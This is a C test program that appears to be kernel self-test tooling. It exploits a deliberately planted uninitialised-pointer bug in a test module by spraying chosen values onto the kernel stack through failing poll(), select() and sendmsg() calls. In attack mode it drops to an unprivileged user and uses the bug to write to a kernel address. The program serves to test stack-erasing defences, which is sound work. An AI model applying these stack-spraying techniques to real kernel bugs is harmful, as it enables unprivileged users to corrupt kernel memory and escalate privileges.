// SPDX-License-Identifier: GPL-2.0
/*
 * stackleak-uninit: aim the planted uninitialised stack pointer of
 * lib/test_stackleak_uninit.c from user space, the way an attacker would:
 * leave a chosen value on the kernel stack with an ordinary system call,
 * then trigger the bug in the next one.
 *
 * Usage: stackleak-uninit DEVICE SPRAY MODE
 *   DEVICE  test_stackleak_uninit or test_stackleak_uninit_zero
 *   SPRAY   poll    poll()'s on-stack pollfd array (the call fails with
 *                   EFAULT after copying it: the last entry is unmapped)
 *           select  select()'s on-stack fd sets (EBADF: no such fds)
 *           sendmsg sendmsg()'s on-stack address and iovec array (EFAULT)
 *           same    the device's own TSU_SAME: the spray and the bug in
 *                   one system call (attack only)
 *   MODE    peek    (root) spray words tagged with their index, then read
 *                   the pointer the bug would use: which word, if any,
 *                   lands on it. Prints "peek SPRAY: word N" or
 *                   "peek SPRAY: miss 0x...". Exit 0 if a word lands.
 *           attack  a child drops to uid/gid 65534, sprays the target's
 *                   address and triggers the write; the parent reports
 *                   "attack SPRAY: child=exit N|signal N target=written|
 *                   unchanged|0x..." (exit 0 when it could tell).
 * Before each attack the target (DEVICE's debugfs file) is set to a
 * known value; exit 1 on a setup error.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/select.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>

/* lib/test_stackleak_uninit.c */
#define TSU_WRITE	_IOW('S', 0x40, uint64_t)
#define TSU_SAME	_IOW('S', 0x42, uint64_t)
#define TSU_PEEK	_IOWR('S', 0x43, uint64_t)
#define TSU_STAGE_WORDS	46

#define TAG		0x5350524159000000ULL	/* "SPRAY" and an index */
#define TAG_MASK	0xffffffffff000000ULL
#define BEFORE		0x1111111111111111ULL
#define WRITTEN		0x4f574e45444f574eULL	/* "NWODENWO" */
#define NOBODY		65534

/*
 * The sprays' system calls where an architecture lacks them: arm64 has no
 * poll() and no select() (ppoll() and pselect6() reach the same code with no
 * timeout and no signal mask), and i386's (and AArch32's) select() is
 * _newselect (SYS_select is the old one with its arguments in a struct).
 */
#ifdef SYS_poll
#define POLL(fds, n)	syscall(SYS_poll, fds, n, 0)
#else
#define POLL(fds, n)	syscall(SYS_ppoll, fds, n, NULL, NULL, 0)
#endif
#if defined(SYS__newselect)
#define SELECT(n, r, w, e)	syscall(SYS__newselect, n, r, w, e, NULL)
#elif defined(SYS_select)
#define SELECT(n, r, w, e)	syscall(SYS_select, n, r, w, e, NULL)
#else
#define SELECT(n, r, w, e)	syscall(SYS_pselect6, n, r, w, e, NULL, NULL)
#endif

static const char *dev;
static char devpath[64], targetpath[96];

static void die(const char *what)
{
	fprintf(stderr, "stackleak-uninit: %s: %s\n", what, strerror(errno));
	exit(1);
}

/* Word i of a spray: the tagged index, or the one value everywhere. */
static uint64_t word(uint64_t value, int i)
{
	return value ? value : TAG | i;
}

/*
 * poll(): do_sys_poll() copies the first 30 pollfds onto its stack behind
 * a 12-byte list header, so each 8-byte word there holds the second half
 * of one pollfd and the first half of the next: the values go 4 bytes into
 * the array. The 31st pollfd is unmapped, so the call fails (EFAULT)
 * before it polls and rewrites the entries.
 */
static void spray_poll(uint64_t value)
{
	long page = sysconf(_SC_PAGESIZE);
	char *map = mmap(NULL, 2 * page, PROT_READ | PROT_WRITE,
			 MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	unsigned char *fds;
	uint64_t w;
	int i, n = 30;

	if (map == MAP_FAILED || mprotect(map + page, page, PROT_NONE))
		die("mmap");
	fds = (unsigned char *)(map + page) - 8 * n;
	memset(fds, 0xff, 8 * n);
	for (i = 0; i < n - 1; i++) {
		w = word(value, i);
		memcpy(fds + 4 + 8 * i, &w, sizeof(w));
	}
	if (POLL(fds, n + 1) != -1 || errno != EFAULT)
		die("poll spray did not fail with EFAULT");
}

/* select(): 3 x 40 bytes of fd sets on its stack, for 320 fds. */
static void spray_select(uint64_t value)
{
	uint64_t sets[3][5];
	int i;

	/* The fd table must reach 320 fds, or select() shortens the sets. */
	if (dup2(0, 511) < 0 || close(511))
		die("dup2");
	for (i = 0; i < 15; i++)
		sets[i / 5][i % 5] = word(value, i);
	if (SELECT(320, sets[0], sets[1], sets[2]) != -1 ||
	    errno != EBADF)
		die("select spray did not fail with EBADF");
}

/* sendmsg(): a 128-byte address and 8 iovecs on its stack. */
static void spray_sendmsg(uint64_t value)
{
	uint64_t name[16];
	struct iovec iov[8];
	struct msghdr msg = {
		.msg_name = name, .msg_namelen = sizeof(name),
		.msg_iov = iov, .msg_iovlen = 8,
	};
	int i, s = socket(AF_UNIX, SOCK_DGRAM, 0);

	if (s < 0)
		die("socket");
	for (i = 0; i < 16; i++)
		name[i] = word(value, i);
	for (i = 0; i < 8; i++) {
		iov[i].iov_base = (void *)(uintptr_t)word(value, 16 + 2 * i);
		iov[i].iov_len = (size_t)word(value, 17 + 2 * i);
	}
	if (syscall(SYS_sendmsg, s, &msg, 0) != -1)
		die("sendmsg spray succeeded");
}

/*
 * Spray, then the ioctl as the very next system call (any call between
 * would reuse the stack, and be followed by an erase): returns 0, or
 * -errno of the ioctl. The sprays' mappings and sockets are left open.
 */
static long spray_and_call(int fd, const char *spray, unsigned long cmd,
			   uint64_t value, uint64_t *arg0)
{
	uint64_t args[1 + TSU_STAGE_WORDS];
	int i;

	args[0] = *arg0;
	if (!strcmp(spray, "same")) {
		for (i = 0; i < TSU_STAGE_WORDS; i++)
			args[1 + i] = word(value, i);
		cmd = TSU_SAME;
	} else if (!strcmp(spray, "poll")) {
		spray_poll(value);
	} else if (!strcmp(spray, "select")) {
		spray_select(value);
	} else {
		spray_sendmsg(value);
	}
	if (syscall(SYS_ioctl, fd, cmd, args) < 0)
		return -errno;
	*arg0 = args[0];
	return 0;
}

static uint64_t target(uint64_t *value, int set)
{
	unsigned long long addr, val;
	FILE *f = fopen(targetpath, set ? "r+" : "r");

	if (!f)
		die(targetpath);
	if (fscanf(f, "%llx %llx", &addr, &val) != 2) {
		errno = EINVAL;
		die(targetpath);
	}
	if (set) {
		rewind(f);
		fprintf(f, "%llu\n", (unsigned long long)BEFORE);
	}
	if (fclose(f))
		die(targetpath);
	*value = val;
	return addr;
}

static int peek(const char *spray)
{
	uint64_t v = 0;
	int fd = open(devpath, O_RDWR);
	long r;

	if (fd < 0)
		die(devpath);
	r = spray_and_call(fd, spray, TSU_PEEK, 0, &v);
	if (r) {
		errno = -r;
		die("TSU_PEEK");
	}
	close(fd);
	if ((v & TAG_MASK) == TAG) {
		printf("peek %s %s: word %d\n", dev, spray, (int)(v & 0xff));
		return 0;
	}
	printf("peek %s %s: miss 0x%016llx\n", dev, spray, (unsigned long long)v);
	return 2;
}

static int attack(const char *spray)
{
	uint64_t addr, val;
	int status;
	pid_t pid;

	addr = target(&val, 1);
	fflush(stdout);
	pid = fork();
	if (pid < 0)
		die("fork");
	if (!pid) {
		uint64_t v = WRITTEN;
		int fd;

		if (setgid(NOBODY) || setuid(NOBODY))
			die("setuid");
		fd = open(devpath, O_RDWR);
		if (fd < 0)
			die(devpath);
		/* The bug writes v through what the spray left: &target. */
		_exit(spray_and_call(fd, spray, TSU_WRITE, addr, &v) ? 2 : 0);
	}
	if (waitpid(pid, &status, 0) != pid)
		die("waitpid");
	target(&val, 0);
	printf("attack %s %s: child=", dev, spray);
	if (WIFSIGNALED(status))
		printf("signal %d", WTERMSIG(status));
	else
		printf("exit %d", WEXITSTATUS(status));
	if (val == WRITTEN)
		printf(" target=written\n");
	else if (val == BEFORE)
		printf(" target=unchanged\n");
	else
		printf(" target=0x%016llx\n", (unsigned long long)val);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc != 4) {
		fprintf(stderr, "usage: stackleak-uninit DEVICE poll|select|sendmsg|same peek|attack\n");
		return 1;
	}
	if (strcmp(argv[2], "poll") && strcmp(argv[2], "select") &&
	    strcmp(argv[2], "sendmsg") && strcmp(argv[2], "same")) {
		fprintf(stderr, "stackleak-uninit: unknown spray %s\n", argv[2]);
		return 1;
	}
	if (!strcmp(argv[2], "same") && strcmp(argv[3], "attack")) {
		fprintf(stderr, "stackleak-uninit: same: attack only (TSU_SAME writes)\n");
		return 1;
	}
	dev = argv[1];
	snprintf(devpath, sizeof(devpath), "/dev/%s", dev);
	snprintf(targetpath, sizeof(targetpath), "/sys/kernel/debug/%s/target", dev);
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (!strcmp(argv[3], "peek"))
		return peek(argv[2]);
	if (!strcmp(argv[3], "attack"))
		return attack(argv[2]);
	fprintf(stderr, "stackleak-uninit: unknown mode %s\n", argv[3]);
	return 1;
}
